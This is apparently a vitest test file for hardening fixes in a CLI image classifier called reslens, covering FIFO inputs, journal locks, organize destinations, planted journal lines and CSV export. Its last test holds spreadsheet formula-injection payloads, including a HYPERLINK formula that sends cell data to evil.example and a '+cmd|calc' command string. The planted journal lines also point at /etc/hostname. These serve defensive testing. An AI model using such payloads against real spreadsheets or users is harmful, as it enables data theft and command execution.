// Issue 14 (hardening), the CLI and engine findings, each reproduced as it was found: a FIFO and
// /dev/zero given to classify, two runs on one --out, --organize over the scanned folder, a planted
// journal line, a formula in a label. The real `reslens` in a child process, real files.
import { execFileSync, spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { appendFile, mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lockJournal, lockPathFor } from '../../src-main/engine/batch/journal-lock.js';
import { EngineError } from '../../src-main/engine/core/errors.js';
import { readImageFile } from '../../src-main/engine/preprocess/preprocess.js';
import { ensureFixture } from '../fixtures/generate.js';
import { photoLike } from '../helpers/bad-inputs.js';
import { jsonLines, runCli } from '../helpers/cli.js';
import { parseCsv } from '../helpers/csv.js';

let dir: string;
let photos: string;
let model: string;
const env = (): NodeJS.ProcessEnv => ({ RESLENS_MODELS_DIR: path.join(dir, 'models') });

async function listTree(folder: string): Promise<string[]> {
  if (!existsSync(folder)) return [];
  const out: string[] = [];
  for (const entry of await readdir(folder, { withFileTypes: true, recursive: true })) if (entry.isFile()) out.push(path.join(entry.parentPath, entry.name));
  return out.sort();
}

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'reslens-harden-cli-'));
  photos = path.join(dir, 'photos');
  await mkdir(path.join(photos, 'trip'), { recursive: true });
  for (let i = 0; i < 4; i++) await writeFile(path.join(photos, i < 2 ? '' : 'trip', `p${i}.jpg`), await photoLike(160, 120, 'jpeg', i + 1));
  model = await ensureFixture({ depth: 18, bn: 'folded' });
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('#10 explicit inputs that are not regular files', () => {
  it('a FIFO and a link to /dev/zero are NOT_A_FILE error lines; classify finishes and prints the rest', async () => {
    const fifo = path.join(dir, 'pipe.jpg');
    execFileSync('mkfifo', [fifo]);
    const zero = path.join(dir, 'zero.jpg');
    await symlink('/dev/zero', zero);
    const run = await runCli(['classify', fifo, zero, path.join(photos, 'p0.jpg'), '--model', model, '--ep', 'cpu', '--json'], {
      env: env(),
      timeoutMs: 60_000,
    });
    const lines = jsonLines<{ path: string; error?: { code: string }; top?: unknown[] }>(run.stdout);
    expect(lines.map((l) => [path.basename(l.path), l.error?.code ?? 'ok'])).toEqual([
      ['pipe.jpg', 'NOT_A_FILE'],
      ['zero.jpg', 'NOT_A_FILE'],
      ['p0.jpg', 'ok'],
    ]);
  });

  it('reads are bounded: a FIFO never blocks the reader, a file over the limit is refused before reading', async () => {
    const fifo = path.join(dir, 'pipe2');
    execFileSync('mkfifo', [fifo]);
    await expect(readImageFile(fifo)).rejects.toMatchObject({ code: 'NOT_A_FILE' });
    await expect(readImageFile('/dev/zero')).rejects.toMatchObject({ code: 'NOT_A_FILE' });
    const big = path.join(dir, 'big.jpg');
    await writeFile(big, Buffer.alloc(4096));
    await expect(readImageFile(big, big, 1024)).rejects.toMatchObject({ code: 'IMAGE_TOO_LARGE' });
  });
});

describe('#12 two runs on one --out', () => {
  it('a second run while the journal is locked by a live process exits 2 at once, classifying nothing', async () => {
    const out = path.join(dir, 'locked', 'r.csv');
    const first = await runCli(['batch', photos, '--out', out, '--model', model, '--ep', 'cpu'], { env: env() });
    expect(first.code).toBe(0);
    const journal = `${out}.reslens-journal.jsonl`;
    expect(existsSync(lockPathFor(journal))).toBe(false); // released at the end of the run
    const before = await readFile(journal, 'utf8');
    // This test process is the live run holding the lock (as the first `reslens batch` did).
    const lock = await lockJournal(journal);
    try {
      const second = await runCli(['batch', photos, '--out', out, '--model', model, '--ep', 'cpu', '--resume'], { env: env() });
      expect(second.code).toBe(2);
      expect(second.stderr).toMatch(new RegExp(`JOURNAL_LOCKED: .*in use by another run \\(pid ${process.pid}`));
      expect(await readFile(journal, 'utf8')).toBe(before);
      // The engine itself refuses too (not only the CLI's early check).
      await expect(lockJournal(journal)).rejects.toBeInstanceOf(EngineError);
    } finally {
      await lock.release();
    }
  });

  it('a stale lock (its process is gone) is taken over', async () => {
    const out = path.join(dir, 'stale', 'r.csv');
    const journal = `${out}.reslens-journal.jsonl`;
    await mkdir(path.dirname(out), { recursive: true });
    const dead = spawn(process.execPath, ['-e', '0']);
    await new Promise((resolve) => dead.on('close', resolve));
    await writeFile(lockPathFor(journal), JSON.stringify({ pid: dead.pid, host: os.hostname(), started: 'earlier' }));
    const run = await runCli(['batch', photos, '--out', out, '--model', model, '--ep', 'cpu'], { env: env() });
    expect(run.code).toBe(0);
    expect(parseCsv(await readFile(out, 'utf8'))).toHaveLength(5);
    expect(existsSync(lockPathFor(journal))).toBe(false);
  });
});

describe('#11 --organize over the scanned folder', () => {
  it('refuses DEST equal to or an ancestor of an input, before anything is copied', async () => {
    const before = await listTree(photos);
    for (const dest of [photos, dir]) {
      const run = await runCli(
        [
          'batch',
          path.join(photos, 'trip'),
          photos,
          '--out',
          path.join(dir, 'org', `r${dest.length}.csv`),
          '--model',
          model,
          '--ep',
          'cpu',
          '--organize',
          dest,
        ],
        { env: env() },
      );
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).toMatch(/organise destination .* (is the input folder|contains the input)/);
    }
    expect(await listTree(photos)).toEqual(before);
  });

  it('a DEST inside the input is allowed, left out of the walk, and the run says so', async () => {
    const dest = path.join(photos, 'sorted');
    const out = path.join(dir, 'org-inside', 'r.csv');
    const run = await runCli(['batch', photos, '--out', out, '--model', model, '--ep', 'cpu', '--organize', dest], { env: env() });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toMatch(/sorted is inside the input/);
    const rerun = await runCli(['batch', photos, '--out', out, '--model', model, '--ep', 'cpu', '--organize', dest], { env: env() });
    expect(rerun.code, rerun.stderr).toBe(0);
    expect(await listTree(dest)).toHaveLength(4); // 4 photos, not 4 + their copies
    await rm(dest, { recursive: true });
  });
});

describe('#13 planted journal lines', () => {
  it('a result line for a file outside the inputs is neither exported nor organised; a malformed one is skipped', async () => {
    const out = path.join(dir, 'planted', 'r.csv');
    const first = await runCli(['batch', photos, '--out', out, '--model', model, '--ep', 'cpu'], { env: env() });
    expect(first.code).toBe(0);
    const journal = `${out}.reslens-journal.jsonl`;
    const secret = path.join(dir, 'secret.jpg');
    await writeFile(secret, await photoLike(64, 64, 'jpeg', 9));
    const planted = (p: string) => ({
      path: p,
      size: 1,
      mtimeMs: 1,
      result: { path: p, top: [{ index: 1, label: 'goldfish', prob: 0.9 }], model: 'x', ep: 'cpu', ms: 1 },
    });
    await appendFile(
      journal,
      `${JSON.stringify(planted(secret))}\n${JSON.stringify(planted('/etc/hostname'))}\n${JSON.stringify({ path: path.join(photos, 'p0.jpg'), size: 'x', result: { path: '/etc/hostname', top: 'no' } })}\n`,
    );
    const dest = path.join(dir, 'planted-dest');
    const resumed = await runCli(['batch', photos, '--out', out, '--model', model, '--ep', 'cpu', '--resume', '--organize', dest], { env: env() });
    expect(resumed.code, resumed.stderr).toBe(0);
    expect(resumed.stderr).toMatch(/skipped 3 damaged line/);
    const csv = await readFile(out, 'utf8');
    expect(csv).not.toContain('hostname');
    expect(csv).not.toContain('secret.jpg');
    const organised = await listTree(dest);
    expect(organised).toHaveLength(4);
    expect(organised.some((f) => /hostname|secret/.test(f))).toBe(false);
  });
});

describe('#14 CSV formula injection', () => {
  it('labels that start with = + - @ are exported as text, not formulas', async () => {
    const labels = path.join(dir, 'evil-labels.txt');
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1+1'];
    await writeFile(labels, Array.from({ length: 1000 }, (_, i) => `${evil[i % evil.length]} ${i}`).join('\n'));
    const out = path.join(dir, 'csv', 'r.csv');
    const run = await runCli(['batch', photos, '--out', out, '--model', model, '--ep', 'cpu', '--labels', labels, '--top', '5'], { env: env() });
    expect(run.code, run.stderr).toBe(0);
    const rows = parseCsv(await readFile(out, 'utf8'));
    const header = rows[0];
    const labelCells = rows
      .slice(1)
      .flatMap((row) => header.map((h, i) => (h.endsWith('_label') ? row[i] : undefined)).filter((c): c is string => c !== undefined));
    expect(labelCells.length).toBeGreaterThan(10);
    for (const cell of labelCells) expect(cell.startsWith("'"), cell).toBe(true);
    // Numbers stay numbers.
    const prob = rows[1][header.indexOf('top1_prob')];
    expect(Number(prob)).toBeGreaterThan(0);
  });
});
